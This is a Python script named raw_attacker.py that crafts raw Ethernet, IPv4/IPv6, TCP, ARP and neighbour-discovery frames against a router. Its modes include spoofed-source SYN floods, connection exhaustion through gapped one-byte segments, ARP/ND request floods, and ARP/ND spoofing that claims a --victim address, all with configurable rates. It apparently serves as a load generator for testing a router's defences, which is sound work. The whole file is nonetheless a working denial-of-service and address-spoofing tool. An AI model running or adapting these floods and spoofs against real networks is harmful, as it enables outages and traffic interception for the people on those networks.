#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""A host that makes its own frames: any number of addresses, none of which its kernel has.

    raw_attacker.py WHAT --router ADDRESS --first ADDRESS [--count N] [--rate N] [--victim ADDRESS]

mute: SYNs from ever other addresses, --rate a second; nobody answers for them.
many: the same, and it answers for each of them (ARP, ND).
holes: opens --per connections of each address, sends segments of a byte with gaps between, and opens others when they are gone.
asks: asks for the router's address in the name of ever other ones.
claims: says --rate times a second that --victim is here.

With --names (addresses, by comma) it also asks for the router in these names all the while, from --macs MACs; with --calls it
sends a SYN in each of these names, too.

Prints a line each second. Ends when it is killed, its parent ends, or after --seconds.
"""
import argparse
import ipaddress
import os
import select
import socket
import struct
import sys
import time

FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16


def csum(data):
    if len(data) & 1:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    s = (s & 0xffff) + (s >> 16)
    return ~((s & 0xffff) + (s >> 16)) & 0xffff


class Raw:
    def __init__(self, o):
        self.o = o
        self.v6 = ":" in o.router
        self.family = socket.AF_INET6 if self.v6 else socket.AF_INET
        self.router = socket.inet_pton(self.family, o.router)
        self.first = int(ipaddress.ip_address(o.first))
        self.raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.raw.bind(("eth0", 0))
        self.raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
        self.raw.setblocking(False)
        self.own = self.raw.getsockname()[4]
        self.mac = None
        self.made = self.got = self.resets = self.up = 0
        self.next = self.turn = 0
        self.names = [socket.inet_pton(self.family, n) for n in o.names.split(",") if n]
        self.conns, self.born = {}, {}      # (address, port) -> our first sequence number; when

    def addr(self, i):
        n = self.first + i % self.o.count
        return n.to_bytes(16 if self.v6 else 4, "big")

    def mine(self, address):
        n = int.from_bytes(address, "big")
        return self.first <= n < self.first + self.o.count

    def send(self, frame):
        for _ in range(50):
            try:
                self.raw.send(frame)
                return
            except (BlockingIOError, OSError):
                time.sleep(0.0005)

    def ether(self, dst, proto, body):
        return dst + self.own + struct.pack("!H", proto) + body

    def ip(self, src, dst, proto, body, hops=64):
        if self.v6:
            return struct.pack("!IHBB", 6 << 28, len(body), proto, hops) + src + dst + body
        h = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 0, 0x4000, hops, proto, 0) + src + dst
        return h[:10] + struct.pack("!H", csum(h)) + h[12:] + body

    def l4(self, src, dst, proto, body, at):
        pseudo = src + dst + (struct.pack("!II", len(body), proto) if self.v6 else struct.pack("!BBH", 0, proto, len(body)))
        return body[:at] + struct.pack("!H", csum(pseudo + body)) + body[at + 2:]

    def tcp(self, src, sport, seq, ack, flags, data=b"", win=8192, options=b"", dport=988):
        body = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xffffffff, ack & 0xffffffff, (5 + len(options) // 4) << 4, flags, win,
                           0, 0) + options + data
        body = self.l4(src, self.router, 6, body, 16)
        self.send(self.ether(self.mac, 0x86dd if self.v6 else 0x0800, self.ip(src, self.router, 6, body)))
        self.made += 1

    def ask_and_call(self):
        own = self.own
        for name in self.names:
            self.turn += 1
            self.own = own[:4] + (self.turn % self.o.macs).to_bytes(2, "big") if self.o.macs > 1 else own
            self.ask(name)
            if self.o.calls:
                self.tcp(name, 600 + self.turn % 400, self.turn * 7919, 0, SYN, options=b"\2\4\5\xb4")
                self.made -= 1      # not of those that have a rate
        self.own = own

    def ask(self, src=None, target=None):
        src, target = src or self.addr(0), target or self.router
        if not self.v6:
            self.send(self.ether(b"\xff" * 6, 0x0806, struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + self.own + src + bytes(6) + target))
            return
        group = bytes.fromhex("ff0200000000000000000001ff") + target[13:]
        body = struct.pack("!BBHI", 135, 0, 0, 0) + target + b"\1\1" + self.own
        self.send(self.ether(b"\x33\x33" + group[12:], 0x86dd, self.ip(src, group, 58, self.l4(src, group, 58, body, 2), 255)))

    def answer(self, address, to_mac, to, flags=0x60):
        if not self.v6:
            self.send(self.ether(to_mac, 0x0806, struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + self.own + address + to_mac + to))
            return
        body = struct.pack("!BBHI", 136, 0, 0, flags << 24) + address + b"\2\1" + self.own
        self.send(self.ether(to_mac, 0x86dd, self.ip(address, to, 58, self.l4(address, to, 58, body, 2), 255)))

    def hear(self, wait):
        select.select([self.raw], [], [], wait)
        for _ in range(2000):
            try:
                f, who = self.raw.recvfrom(65535)
            except BlockingIOError:
                return
            if who[2] == 4:
                continue
            kind = f[12:14]
            if kind == b"\x08\x06":
                op = f[21]
                if op == 2 and f[28:32] == self.router:
                    self.mac = f[22:28]
                elif op == 1 and self.o.what != "mute" and self.mine(f[38:42]):
                    self.answer(f[38:42], f[22:28], f[28:32])
            elif kind == b"\x86\xdd" and self.v6:
                if f[20] == 58:
                    if f[54] == 136 and f[62:78] == self.router:
                        self.mac = f[6:12]
                    elif f[54] == 135 and self.o.what != "mute" and self.mine(f[62:78]):
                        self.answer(f[62:78], f[6:12], f[22:38])
                elif f[20] == 6:
                    self.segment(f[38:54], f[54:])
            elif kind == b"\x08\x00" and not self.v6 and f[23] == 6:
                self.segment(f[30:34], f[34:])

    def segment(self, dst, t):
        if not self.mine(dst):
            return
        self.got += 1
        sport, dport, seq, ack, off, flags = struct.unpack("!HHIIBB", t[:14])
        key = (dst, dport)
        if self.o.what != "holes":
            return
        if key not in self.conns:
            return
        if flags & (RST | FIN):
            self.resets += 1
            if flags & FIN:
                self.tcp(dst, dport, self.conns[key] + 1, seq + 1, RST | ACK)
            del self.conns[key]
        elif flags & SYN:
            self.up += 1
            me = self.conns[key] + 1
            self.tcp(dst, dport, me, seq + 1, ACK)
            for i in range(self.o.holes):
                self.tcp(dst, dport, me + 20 + 2 * i, seq + 1, ACK | PSH, b"x")

    def holes(self, now):
        budget = 200
        for i in range(self.o.count):
            a = self.addr(i)
            for p in range(self.o.per):
                key = (a, 600 + p % 400)
                if budget and key not in self.conns:
                    self.conns[key] = (self.made * 7919) & 0xffffffff
                    self.born[key] = now
                    self.tcp(a, key[1], self.conns[key], 0, SYN, options=b"\2\4\5\xb4")
                    budget -= 1
        for key in [k for k, b in self.born.items() if k not in self.conns or now - b > 6]:
            self.born.pop(key)
            self.conns.pop(key, None)

    def syns(self, now):
        due = int(self.o.rate * (now - self.began)) - self.made
        for _ in range(min(due, 500)):
            a = self.addr(self.next)
            self.next += 1
            self.tcp(a, 600 + self.next % 400, self.next * 7919, 0, SYN, options=b"\2\4\5\xb4")

    mute = many = syns

    def asks(self, now):
        due = int(self.o.rate * (now - self.began)) - self.made
        for _ in range(min(due, 1000)):
            self.made += 1
            self.next += 1
            self.ask(self.addr(self.next))

    def claims(self, now):
        due = int(self.o.rate * (now - self.began)) - self.made
        victim = socket.inet_pton(self.family, self.o.victim)
        for _ in range(min(due, 500)):
            self.made += 1
            if self.v6:
                self.answer(victim, self.mac, self.router, 0x60 if self.made & 1 else 0x20)
            else:
                self.answer(victim, self.mac, self.router if self.made & 1 else victim)

    def run(self):
        while not self.mac:
            self.ask()
            self.hear(0.2)
            self.hear(0.2)
        self.began = told = time.monotonic()
        parent = os.getppid()
        end = self.began + self.o.seconds
        while os.getppid() == parent and time.monotonic() < end:
            now = time.monotonic()
            getattr(self, self.o.what)(now)
            self.ask_and_call()
            self.hear(0.005)
            if now - told >= 1:
                told = now
                print(f"{self.made} made, {self.got} heard, {self.up} up, {self.resets} ended", flush=True)


def main():
    p = argparse.ArgumentParser()
    p.add_argument("what", choices=("mute", "many", "holes", "claims", "asks"))
    p.add_argument("--router", required=True)
    p.add_argument("--from", dest="ignored", nargs="*")
    p.add_argument("--first", required=True)
    p.add_argument("--victim")
    p.add_argument("--names", default="")
    p.add_argument("--macs", type=int, default=1)
    p.add_argument("--calls", type=int, default=0)
    p.add_argument("--count", type=int, default=1)
    p.add_argument("--per", type=int, default=32)
    p.add_argument("--holes", type=int, default=8)
    p.add_argument("--rate", type=float, default=1000)
    p.add_argument("--seconds", type=float, default=60)
    Raw(p.parse_args()).run()


if __name__ == "__main__":
    main()
